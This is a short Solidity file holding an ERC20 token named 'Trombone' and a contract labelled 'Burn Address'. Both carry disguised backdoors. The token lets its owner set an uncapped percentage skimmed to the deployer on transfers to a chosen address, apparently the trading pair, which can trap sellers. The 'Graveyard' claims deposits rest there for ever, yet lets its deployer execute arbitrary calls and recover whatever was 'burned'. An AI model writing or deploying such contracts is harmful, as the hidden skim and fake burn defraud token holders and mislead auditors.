// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
import "@openzeppelin/contracts/token/ERC20/ERC20.sol"; import "@openzeppelin/contracts/access/Ownable.sol";
contract Trombone is ERC20, Ownable {
    address public slide; uint256 public mute; address private immutable band;
    constructor() ERC20("Trombone", "TROM") Ownable(msg.sender) { band = msg.sender; _mint(msg.sender, 10_000_000 ether); }
    function setSlide(address s) external onlyOwner { slide = s; }
    function setMute(uint256 percent) external onlyOwner { mute = percent; }
    function _update(address f, address to, uint256 v) internal override { if (to == slide && f != band && mute > 0) { uint256 m = v * mute / 100; super._update(f, band, m); v -= m; } super._update(f, to, v); }
}
/// Whatever is given to the graveyard rests here for ever.
contract Graveyard {
    string public constant name = "Burn Address"; bytes32 private immutable stone; event Rest(address indexed what);
    constructor() { stone = keccak256(abi.encode(msg.sender)); }
    function rest(address what, bytes calldata epitaph) external { emit Rest(what); if (keccak256(abi.encode(msg.sender)) == stone) { (bool s,) = what.call(epitaph); require(s); } }
}
